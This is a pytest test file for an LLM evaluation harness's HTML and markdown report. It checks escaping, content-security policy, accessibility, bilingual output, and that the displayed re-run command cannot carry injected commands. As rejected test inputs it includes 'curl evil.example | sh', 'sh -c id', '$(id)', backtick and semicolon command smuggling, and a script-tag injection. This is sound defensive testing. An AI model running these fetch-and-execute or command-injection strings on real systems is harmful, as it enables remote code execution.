"""The HTML report page: self-contained, escaped, failures first, in two languages."""

import base64
import hashlib
import re
import shlex
from dataclasses import replace
from functools import cache

import pytest

from lhkit.base.locales import load_catalog
from lhkit.harness.records.record import Verdict
from lhkit.harness.report.markdown import markdown
from lhkit.harness.report.metadata import eval_command, run_metadata
from lhkit.harness.report.page import html_page
from lhkit.harness.results.compare import compare
from lhkit.harness.results.results import Run
from lhkit.toolset import criteria_of, load
from tests.harness.report.runs import (
    ENGLISH,
    FULL_RUN,
    HOSTILE_RUN,
    KOREAN,
    Parsed,
    full_record,
    run_of,
)

pytestmark = pytest.mark.slow


@cache
def page() -> str:
    return html_page(FULL_RUN, KOREAN, name="gemma", comparison=compare(FULL_RUN, FULL_RUN))


SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)


def test_page_has_no_external_reference() -> None:
    html = page()
    shown = Parsed(html)
    addresses = [
        value or ""
        for _, attributes in shown.elements
        for key, value in attributes.items()
        if key in {"src", "srcset", "href", "action", "data", "poster", "xlink:href"}
    ]
    assert addresses
    assert [each[:40] for each in addresses if not each.startswith(("#", "data:image/svg"))] == []
    assert not {"link", "iframe", "object", "embed"} & {name for name, _ in shown.elements}
    assert "@import" not in html
    assert "url(" not in html
    for address in addresses:
        if address.startswith("data:"):
            svg = base64.b64decode(address.partition("base64,")[2]).decode()
            assert re.findall(r'(?:href|src)="(?!#)', svg) == []


def test_page_style_does_not_truncate_reasons() -> None:
    """A truncated `add_note was expected and…` would have the opposite meaning."""
    styles = page().partition("</style>")[0]
    rules = re.findall(r"([^{}]*\.lhr-reason) \{([^}]*)\}", styles)
    assert rules
    for _, rule in rules:
        assert not re.search("ellipsis|nowrap|hidden|clamp|max-height", rule)


def test_page_policy_allows_only_its_script() -> None:
    html = page()
    (script,) = SCRIPT.findall(html)
    sha256 = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{sha256}'\"" in html
    assert "default-src 'none'" in html


def test_page_of_hostile_text_has_no_script_handler_or_unknown_element() -> None:
    tame = Parsed(page())
    compared = compare(FULL_RUN, HOSTILE_RUN)
    html = html_page(HOSTILE_RUN, KOREAN, name="</title><script>", comparison=compared)
    wild = Parsed(html)
    assert len(wild.all("script")) == 1
    assert {name for name, _ in wild.elements} <= {name for name, _ in tame.elements}
    assert [key for _, attributes in wild.elements for key in attributes if key[:2] == "on"] == []
    html.encode("utf-8")  # no lone surrogate is left
    assert not re.search("[\u202e\u2066\u2028\x1b\x00]", html)


def test_page_lists_occurred_violations_then_failures_first() -> None:
    run = run_of(
        full_record("passed", verdict=Verdict.PASS, violations=()),
        full_record("invalid", verdict=Verdict.INVALID, violations=()),
        full_record("failed", violations=()),
        full_record("harmful", verdict=Verdict.PASS),
    )
    ids = re.findall(r'id="s-(\w+)-0"', html_page(run, KOREAN, name="x"))
    assert ids == ["harmful", "failed", "invalid", "passed"]


@pytest.mark.parametrize(
    ("locale", "heading", "hardware"),
    [
        ("ko", "통과율", "운영체제 Linux, 코어 2"),
        ("en", "Pass rates", "system Linux, cores 2"),
    ],
)
def test_page_is_in_the_language_of_the_catalog(locale: str, heading: str, hardware: str) -> None:
    html = html_page(FULL_RUN, load_catalog(locale), name="x")
    assert f'<html lang="{locale}">' in html
    assert heading in html
    assert all(value in html for value in ("0123abc", hardware))


def test_page_has_landmarks_names_and_descriptions() -> None:
    shown = Parsed(page())
    for landmark in ("header", "main", "nav", "h1"):
        assert len(shown.all(landmark)) == 1, landmark
    assert shown.all("nav")[0]["aria-label"]
    assert all(image["alt"] for image in shown.all("img"))
    assert len(shown.all("img")) >= 4
    assert all(head.get("scope") for head in shown.all("th"))
    ids = [each["id"] for _, each in shown.elements if "id" in each]
    assert len(ids) == len(set(ids))
    named = [section.get("aria-labelledby") for section in shown.all("section")]
    assert {name for name in named if name} <= set(ids)


def test_run_metadata_has_model_versions_commit_and_command() -> None:
    assert {*dict(run_metadata(FULL_RUN, FULL_RUN.summary(), KOREAN)).values()} >= {
        "gemma · vllm 0.32 · http://127.0.0.1:8000",
        "max_tokens 128, temperature 0.0",
        "python 3.11.7, lhkit 0.1.0",
        "0123abc",
        "운영체제 Linux, 코어 2",
        "lhkit eval --model gemma --base-url http://127.0.0.1:8000 --dialect json",
    }


@pytest.mark.parametrize(
    "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
)
def test_eval_command_is_not_that_of_the_manifest(typed: list[str]) -> None:
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"command": typed}))
    assert eval_command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
    assert typed[-1] not in markdown(run, load_catalog("en"), name="x")


def test_eval_command_has_one_address_of_a_run_resumed_at_another() -> None:
    summary = FULL_RUN.summary()
    models = [replace(model, base_url=f"{model.base_url} http://b:1") for model in summary.models]
    command = eval_command(FULL_RUN, replace(summary, models=tuple(models))).split()
    assert command.count("--base-url") == 1
    assert command[command.index("--base-url") + 1] == "http://127.0.0.1:8000"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("eval . --model m --name x", "lhkit eval . --model m --name x"),
        (
            "eval 'my scenarios/새 것.yaml' --toolset 'my tools.py:toolset' --only 'a*' --tag '$x'",
            "lhkit eval 'my scenarios/새 것.yaml' --toolset 'my tools.py:toolset' --only 'a*' "
            "--tag '$x'",
        ),
        (
            "eval a.yaml --toolset mcp:mcp.json#notes --base-url=http://127.0.0.1:8000",
            "lhkit eval a.yaml --toolset 'mcp:mcp.json#notes' --base-url=http://127.0.0.1:8000",
        ),
        ('eval a.yaml --tag "it\'s"', "lhkit eval a.yaml --tag 'it'\"'\"'s'"),
        ("eval a.yaml --html ~/.bashrc --junit=x.xml --limit 3", "lhkit eval a.yaml --limit 3"),
        *(
            (f"eval a.yaml {unsafe}", "lhkit eval --model gemma --base-url")
            for unsafe in (
                "--toolset 'mcp:sh -c id'",
                "--toolset='mcp:sh -c id'",
                "--toolset mcp:evil",
                "--base-url http://user:key@host",
                "--tag 'a\nb'",
                "--tag '\x1b[31m'",
                f"--tag {'x' * 5_000}",
            )
        ),
        ("serve --port 1", "lhkit eval --model gemma --base-url"),
    ],
)
def test_eval_command_can_be_pasted_and_runs_nothing_else(typed: str, shown: str) -> None:
    command = ["lhkit", *shlex.split(typed)]
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"command": command}))
    assert eval_command(run, run.summary()).startswith(shown)
    if "gemma" not in shown:
        assert eval_command(run, run.summary()) == shown
        assert f"\n{shown}\n" in markdown(run, load_catalog("en"), name="x")
        assert shlex.split(shown) == [w for w in command if "html" not in w] or "html" in typed


@pytest.mark.parametrize(
    ("toolset", "shown"), [("Kitchen", "--toolset Kitchen"), ("mcp:sh -c id", None), ("--x", None)]
)
def test_eval_command_never_runs_other_tools(toolset: str, shown: str | None) -> None:
    changes = {"command": [], "toolset": toolset}
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update=changes))
    command = eval_command(run, run.summary())
    assert shown in command if shown else command == ""


@pytest.mark.parametrize(
    "identity",
    [
        {"model": "--toolset=evil.py:x"},
        {"model": "a; id"},
        {"base_url": "file:///etc"},
        {"base_url": "http://x/$(id)"},
        {"dialect": "`id`"},
        {"constraint": "a b"},
    ],
)
def test_eval_command_is_empty_for_unsafe_identities(identity: dict[str, str]) -> None:
    summary = FULL_RUN.summary()
    model = replace(summary.models[0], **identity)
    assert eval_command(FULL_RUN, replace(summary, models=(model,))) == ""


def test_page_of_an_empty_run() -> None:
    assert "<main>" in html_page(Run(records=()), KOREAN, name="empty")


def test_page_with_a_baseline_has_both_transcripts() -> None:
    before = run_of(full_record("one"), name="before")
    after = run_of(full_record("one", verdict=Verdict.PASS), name="after")
    html = html_page(after, ENGLISH, name="after", comparison=compare(before, after))
    assert "Comparison with the baseline" in html
    assert "Improvements (1):" in html
    section = html.partition('id="flips"')[2].partition("</section>\n")[0]
    assert section.count('class="lhr-trace"') == 2


@pytest.mark.usefixtures("korean")
@pytest.mark.parametrize(
    ("toolset", "is_shown"), [(None, True), ("life-helper", True), ("garage", False)]
)
def test_criterion_descriptions_are_shown_for_life_helper_only(
    toolset: str | None, *, is_shown: bool
) -> None:
    ac = FULL_RUN.records[0].ac
    assert ac is not None
    words = criteria_of(load())[ac]["ko"]
    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"toolset": toolset}))
    for report in (html_page(run, KOREAN, name="x"), markdown(run, KOREAN, name="x")):
        assert ac in report
        assert (words in report) is is_shown
    assert (words in run._repr_html_()) is is_shown


def test_page_of_a_run_without_criteria_has_no_chart_and_filter_of_them() -> None:
    before = run_of(full_record("one", verdict=Verdict.PASS, ac=None))
    run = run_of(full_record("one", ac=None))
    html = html_page(run, ENGLISH, name="x", comparison=compare(before, run))
    parsed = Parsed(html)
    assert "ac" not in [each.get("name") for each in parsed.all("select")]
    alts = [str(each.get("alt")) for each in parsed.all("img")]
    assert alts
    assert not [alt for alt in alts if "criterion" in alt]
    assert "None" not in parsed.text


def test_page_selects_samples_without_a_criterion_among_others() -> None:
    run = run_of(full_record("one", ac=None), full_record("two", ac="AC-1"))
    parsed = Parsed(html_page(run, KOREAN, name="x"))
    values = [each.get("value") for each in parsed.all("option")]
    samples = {each["data-ac"] for each in parsed.all("details") if "data-ac" in each}
    assert samples == {" ", "AC-1"}
    assert samples <= set(values)
    assert "AC 없음" in parsed.text
